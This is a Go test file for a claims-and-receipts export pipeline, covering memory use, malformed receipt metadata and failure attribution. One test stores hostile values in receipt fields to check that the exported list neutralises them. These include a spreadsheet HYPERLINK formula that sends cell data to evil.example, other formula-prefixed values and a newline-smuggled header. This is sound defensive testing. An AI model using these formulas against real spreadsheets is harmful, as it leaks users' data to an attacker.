package pipeline_test

import (
	"context"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"runtime"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/jackc/pgx/v5"
	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/types"
	"sigs.k8s.io/controller-runtime/pkg/client"

	"github.com/ledgerport/ledgerport/api/v1alpha1"
	"github.com/ledgerport/ledgerport/internal/failpoint"
	"github.com/ledgerport/ledgerport/internal/failure"
	"github.com/ledgerport/ledgerport/internal/journal"
	"github.com/ledgerport/ledgerport/internal/pipeline"
	"github.com/ledgerport/ledgerport/ledger"
)

// heap measures what is alive beside what was there before, until the function that it returns is called: in bytes, the most.
func heap() func() uint64 {
	live := func() uint64 {
		runtime.GC()
		var m runtime.MemStats
		runtime.ReadMemStats(&m)
		return m.HeapAlloc
	}
	var most atomic.Uint64
	before, done, ended := live(), make(chan struct{}), make(chan struct{})
	go func() {
		defer close(ended)
		for {
			most.Store(max(most.Load(), live()))
			select {
			case <-done:
				return
			case <-time.After(30 * time.Millisecond):
			}
		}
	}()
	return func() uint64 {
		close(done)
		<-ended
		return most.Load() - min(most.Load(), before)
	}
}

// recordVouchers has the recorded vouchers of the first run be so many blocks of one voucher, which is changed, so many times.
func (s *stage) recordVouchers(blocks, times int, change func(*ledger.Voucher)) {
	s.Helper()
	s.sql(func(ctx context.Context, conn *pgx.Conn) error {
		var body []byte
		if err := conn.QueryRow(ctx, `SELECT body FROM ledgerport.run_vouchers LIMIT 1`).Scan(&body); err != nil {
			return err
		}
		var voucher ledger.Voucher
		if err := journal.NewReader(body).Next(&voucher); err != nil {
			return err
		}
		voucher.Postings = voucher.Postings[:1]
		change(&voucher)
		var w journal.Writer
		for range times {
			w.Append(&voucher)
		}
		if _, err := conn.Exec(ctx, `DELETE FROM ledgerport.run_vouchers`); err != nil {
			return err
		}
		_, err := conn.Exec(ctx, `INSERT INTO ledgerport.run_vouchers (run_id, block, body) SELECT $1, n, $2 FROM generate_series(0, $3 - 1) n`, task(1).RunID, w.Block(), blocks)
		return err
	})
}

// TestRecordedTextsOfReceiptsTakeNoMoreMemoryThanReceiptsDo has vouchers in one's own database with texts of megabytes, of which an
// attempt holds as many as are a block of receipts.
func TestRecordedTextsOfReceiptsTakeNoMoreMemoryThanReceiptsDo(t *testing.T) { //nolint:paralleltest // it measures
	long := strings.Repeat("k", 15<<20)
	for name, change := range map[string]func(*ledger.Voucher){
		"keys": func(v *ledger.Voucher) { v.Receipts = []ledger.Receipt{{Key: long, Size: -1, File: "a.pdf"}} },
		"media types": func(v *ledger.Voucher) {
			v.Receipts = []ledger.Receipt{{Key: "k", MediaType: long, Size: -1, File: "a.pdf"}}
		},
		"hashes": func(v *ledger.Voucher) {
			v.Receipts = []ledger.Receipt{{Key: "k", SHA256: long, Size: -1, File: "a.pdf"}}
		},
		"files": func(v *ledger.Voucher) { v.Receipts = []ledger.Receipt{{Key: "k", Size: -1, File: long}} },
		"claims": func(v *ledger.Voucher) {
			v.ClaimID, v.Receipts = long, []ledger.Receipt{{Key: "k", Size: -1, File: "a.pdf"}}
		},
		"series": func(v *ledger.Voucher) {
			v.Series, v.Receipts = long, []ledger.Receipt{{Key: "k", Size: -1, File: "a.pdf"}, {Key: "k", Size: -1, File: "a.pdf"}}
		},
	} {
		t.Run(name, func(t *testing.T) { //nolint:paralleltest // it measures
			s := newReceipts(t, v1alpha1.IncludeReceipts)
			s.crash(task(1), failpoint.CopyReceipts.Before())
			s.recordVouchers(12, 1, change)
			live := heap()
			outcome, err := s.attempt(task(2), nil)
			if most := live(); most > 100<<20 {
				t.Errorf("an attempt holds %d MiB (%+v, %v)", most>>20, outcome.Record, err)
			}
		})
	}
}

// TestARedeliveryHoldsEachDeliveredReceiptOnce has a voucher recorded again and again, by the owner of the database: the redelivery
// would copy its receipts as often.
func TestARedeliveryHoldsEachDeliveredReceiptOnce(t *testing.T) { //nolint:paralleltest // it measures
	s := newReceipts(t, v1alpha1.IncludeReceipts)
	_, err := s.attempt(task(1), nil)
	s.must(err)
	s.crash(redelivery(1), failpoint.CopyReceipts.Before())
	const blocks, vouchers = 10, 2000
	s.recordVouchers(blocks, vouchers, func(v *ledger.Voucher) { v.Receipts[0].Key = strings.Repeat("k", 4000) })
	s.do(`UPDATE ledgerport.run_receipts SET vouchers = $1`, blocks*vouchers)
	live := heap()
	outcome, err := s.attempt(redelivery(2), nil)
	if most := live(); most > 64<<20 {
		t.Errorf("an attempt holds %d MiB (%+v, %v)", most>>20, outcome.Record, err)
	}
}

// TestTheTextsOfAReceiptStopNoRun: they are often as an employee's browser sent them.
func TestTheTextsOfAReceiptStopNoRun(t *testing.T) {
	t.Parallel()
	for name, test := range map[string]struct{ change, problem, listed string }{
		"a media type that is too long to be listed":     {change: `media_type = repeat('"', 60000)`},
		"a media type with parameters that are too long": {change: `media_type = 'application/pdf; name="' || repeat('x', 60000) || '"'`, listed: "application/pdf"},
		"a media type that is a formula":                 {change: `media_type = '=HYPERLINK("http://evil.example/?"&A2)'`},
		"a media type that is a formula, and is one":     {change: `media_type = '-1+1/a'`, listed: "'-1+1/a"},
		"a media type with a formula behind a separator": {change: `media_type = 'a/b; c="=1+1"'`, listed: `a/b; c="'=1+1"`},
		"a media type on two lines":                      {change: `media_type = E'application/pdf\nX: y'`},
		"a media type that is not ASCII":                 {change: `media_type = 'image/' || chr(8364)`},
		"a name that is too long":                        {change: `name = repeat('n', 60000) || '.pdf'`},
		"an extension that is too long":                  {change: `name = '.' || repeat('n', 60000)`},
		"a key that is too long":                         {change: `key = repeat('k', 60000)`, problem: "missing"},
		"a key that begins as another one":               {change: `key = 'whole' || repeat('/', 60000)`, problem: "missing"},
		"a hash that is too long":                        {change: `sha256 = repeat('0', 60000)`, problem: "changed"},
		"a hash in another form":                         {change: `sha256 = upper(encode(sha256(convert_to('receipt ' || key, 'UTF8')), 'hex'))`, problem: "changed"},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			s := newReceipts(t, v1alpha1.IncludeReceipts)
			s.do(`UPDATE public.receipts SET media_type = NULL`)
			s.do(`UPDATE public.receipts SET ` + test.change)
			outcome, err := s.attempt(task(1), nil)
			if err != nil || outcome.Result.Claims != claimCount || (outcome.Result.Receipts == 0) != (test.problem != "") {
				t.Fatalf("the run ended with %+v (%v)", outcome, err)
			}
			rows, _ := s.list()
			for _, row := range rows {
				if row[4] != test.listed || row[7] != test.problem {
					t.Fatalf("a row of the list is %q, want the media type %q and the problem %q", row, test.listed, test.problem)
				}
			}
			s.do(`UPDATE public.receipts SET key = 'whole' WHERE length(key) > 1000`)
		})
	}
}

func TestAClaimIsAFormulaNowhereInTheList(t *testing.T) {
	t.Parallel()
	s := newReceipts(t, v1alpha1.IncludeReceipts)
	for _, statement := range []string{
		`ALTER TABLE public.claim_lines DROP CONSTRAINT IF EXISTS claim_lines_claim_id_fkey`,
		`ALTER TABLE public.claims ALTER id TYPE text USING '=' || id`,
		`ALTER TABLE public.claim_lines ALTER claim_id TYPE text USING '=' || claim_id`,
		`ALTER TABLE public.receipts ALTER claim_id TYPE text USING '=' || claim_id`,
	} {
		s.do(statement)
	}
	_, err := s.attempt(task(1), nil)
	s.must(err)
	rows, _ := s.list()
	for _, row := range rows {
		if !strings.HasPrefix(row[2], "'=") {
			t.Fatalf("the list has the claim %s", row[2])
		}
	}
}

// TestARunWhoseListOfReceiptsAnEarlierVersionRecordedTooLongGoesOn, or gives its claims back.
func TestARunWhoseListOfReceiptsAnEarlierVersionRecordedTooLongGoesOn(t *testing.T) {
	t.Parallel()
	stuck := func(t *testing.T) *stage {
		t.Helper()
		s := newReceipts(t, v1alpha1.IncludeReceipts)
		s.crash(task(1), failpoint.RecordReceipts.After())
		s.do(`UPDATE ledgerport.run_receipts SET rows = convert_to(replace(convert_from(rows, 'UTF8'), 'application/pdf', repeat('x', 9000000 / (delivered + missing)::int)), 'UTF8')`)
		if length := s.text(`SELECT max(length(rows))::text FROM ledgerport.run_receipts`); len(length) != 7 || length < "5" {
			t.Fatalf("the rows have %s bytes", length)
		}
		return s
	}
	t.Run("to its end", func(t *testing.T) {
		t.Parallel()
		if outcome, err := stuck(t).attempt(task(2), nil); err != nil || !outcome.Committed || outcome.Result.Claims != claimCount {
			t.Errorf("the run ended with %+v (%v)", outcome, err)
		}
	})
	t.Run("to its release", func(t *testing.T) {
		t.Parallel()
		s := stuck(t)
		if _, err := s.attempt(released(task(2)), nil); err != nil || s.state(task(1).RunID) != "released" || len(s.files()) > 0 {
			t.Fatalf("the release ended with %v; the run is %s, and %d files are left", err, s.state(task(1).RunID), len(s.files()))
		}
		if outcome, err := s.attempt(run(2), nil); err != nil || outcome.Result.Claims != claimCount {
			t.Errorf("the next run ended with %+v (%v)", outcome, err)
		}
	})
}

func TestAReceiptWhoseHashIsNoneHoldsTheClaimThatRequiresIt(t *testing.T) {
	t.Parallel()
	s := newReceipts(t, v1alpha1.RequireReceipts)
	s.do(`UPDATE public.receipts SET sha256 = 'unknown' WHERE key = (SELECT min(key) FROM public.receipts WHERE line_no = 1)`)
	outcome, err := s.attempt(task(1), nil)
	if err != nil || outcome.Result.Claims != claimCount-1 || outcome.Result.Held != 1 {
		t.Fatalf("the run ended with %+v (%v), want one claim held", outcome, err)
	}
	if held := s.text(`SELECT reason || ': ' || message FROM ledgerport.held_claims`); held != "ReceiptMissing: a receipt of line 1 is changed in the store of the receipts; put it there, or correct its entry" {
		t.Errorf("it is held for %s", held)
	}
}

// copyClaims has so many copies of a claim with one line be the only claims, with one receipt each, whose id and texts are expressions.
func (s *stage) copyClaims(count int, id, key, text string) {
	s.Helper()
	for _, statement := range []string{
		`DROP TABLE public.receipts`,
		`ALTER TABLE public.claim_lines DROP CONSTRAINT IF EXISTS claim_lines_claim_id_fkey`,
		`ALTER TABLE public.claims ALTER id TYPE text USING id::text`,
		`ALTER TABLE public.claim_lines ALTER claim_id TYPE text USING claim_id::text`,
		`CREATE TABLE public.receipts (claim_id text NOT NULL, line_no integer, key text NOT NULL, name text, media_type text, size bigint, sha256 text)`,
		fmt.Sprintf(`DO $$ DECLARE c public.claims; l public.claim_lines; BEGIN
			SELECT * INTO c FROM public.claims ORDER BY id LIMIT 1;
			SELECT * INTO l FROM public.claim_lines WHERE claim_id = c.id LIMIT 1;
			DELETE FROM public.claims; DELETE FROM public.claim_lines;
			FOR n IN 1..%d LOOP
				c.id := %s; l.claim_id := c.id;
				INSERT INTO public.claims SELECT c.*; INSERT INTO public.claim_lines SELECT l.*;
				INSERT INTO public.receipts SELECT c.id, 1, %s, %s, %[4]s, NULL, %[4]s;
			END LOOP; END $$`, count, id, key, text),
		`CREATE INDEX ON public.receipts (claim_id)`,
		`ANALYZE`,
	} {
		s.do(statement)
	}
}

func TestClaimsThatLackReceiptsTakeLittleMemory(t *testing.T) { //nolint:paralleltest // it measures
	for name, test := range map[string]struct {
		count         int
		id, key, text string
		most          uint64
	}{
		"many of them":  {40_000, `lpad(n::text, 1000, 'x')`, `'none'`, `NULL`, 64 << 20},
		"of long texts": {600, `n::text`, `repeat('k', 60000)`, `repeat('t', 60000)`, 48 << 20},
	} {
		t.Run(name, func(t *testing.T) { //nolint:paralleltest // it measures
			s := newReceipts(t, v1alpha1.RequireReceipts)
			s.copyClaims(test.count, test.id, test.key, test.text)
			live := heap()
			outcome, err := s.attempt(task(1), nil)
			most := live()
			if err != nil || outcome.Result.Held != int64(test.count) {
				t.Errorf("the run ended with %+v (%v)", outcome, err)
			}
			if most > test.most {
				t.Errorf("an attempt holds %d MiB", most>>20)
			}
		})
	}
}

// ofElsewhere has the claims, and their receipts, be a source's of another namespace.
func (s *stage) ofElsewhere(objects client.Client) {
	s.Helper()
	key := types.NamespacedName{Namespace: "acme", Name: "monthly"}
	var source v1alpha1.ClaimSource
	var export v1alpha1.AccountingExport
	s.must(errors.Join(askForReceipts(s.Context(), objects, s.receipts), objects.Get(s.Context(), key, &source), objects.Get(s.Context(), key, &export)))
	source.ObjectMeta = metav1.ObjectMeta{Namespace: "expenses", Name: "claims"}
	source.Spec.Access = []v1alpha1.AccessRule{{OrganizationIDs: []string{organization}}}
	export.Spec.SourceRef = v1alpha1.NamespacedReference{Namespace: "expenses", Name: "claims"}
	s.must(errors.Join(
		objects.Create(s.Context(), &corev1.Namespace{ObjectMeta: metav1.ObjectMeta{Name: "expenses"}}),
		objects.Create(s.Context(), &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Namespace: "expenses", Name: "monthly"}, Data: map[string][]byte{"url": []byte(s.database)}}),
		objects.Create(s.Context(), &source), objects.Update(s.Context(), &export),
		os.Rename(filepath.Join(receiptsOf(s.exports), "acme"), filepath.Join(receiptsOf(s.exports), "expenses"))))
}

func TestWhatFailsAmongReceiptsIsBlamedOnWhatFailed(t *testing.T) {
	t.Parallel()
	for name, test := range map[string]struct {
		policy            v1alpha1.ReceiptPolicy
		at                failpoint.Point
		fails             func(s *stage)
		condition, reason string
		says              string
	}{
		"its own destination": {
			v1alpha1.IncludeReceipts, failpoint.CopyReceipts.Before(), func(s *stage) { // something else is where the receipts are to go
				dir := filepath.Join(s.exports, ofRun)
				s.must(errors.Join(os.MkdirAll(dir, 0o750), os.WriteFile(filepath.Join(dir, "receipts"), nil, 0o600)))
			}, v1alpha1.ConditionDestinationReady, v1alpha1.ReasonNotWritable, "acme/books",
		},
		"a store of somebody else": {
			v1alpha1.IncludeReceipts, failpoint.Record.After(), func(s *stage) {
				s.must(os.RemoveAll(filepath.Join(receiptsOf(s.exports), "expenses")))
			}, v1alpha1.ConditionSourceReady, v1alpha1.ReasonReceiptsUnreadable, "its own status says more",
		},
		"a receipt that is gone": {
			v1alpha1.RequireReceipts, failpoint.CopyReceipts.Before(), func(s *stage) {
				s.must(os.Remove(filepath.Join(receiptsOf(s.exports), "expenses", "scans", "whole")))
			}, v1alpha1.ConditionSourceReady, v1alpha1.ReasonReceiptMissing, "a receipt of the claim is missing in its store by now; put it back",
		},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			s := newReceipts(t, test.policy)
			p := newPipeline(s.database, s.exports, "living", func(point failpoint.Point) {
				if point == test.at {
					test.fails(s)
				}
			})
			s.ofElsewhere(p.Resolver.Objects.(client.Client))
			_, err := p.Run(t.Context(), task(1), &pipeline.Progress{})
			if failed := failure.From(err); failed.Condition != test.condition || failed.Reason != test.reason || !strings.Contains(failed.Message, test.says) {
				t.Errorf("it ends with %s %s: %s", failed.Condition, failed.Reason, failed.Message)
			}
		})
	}
}
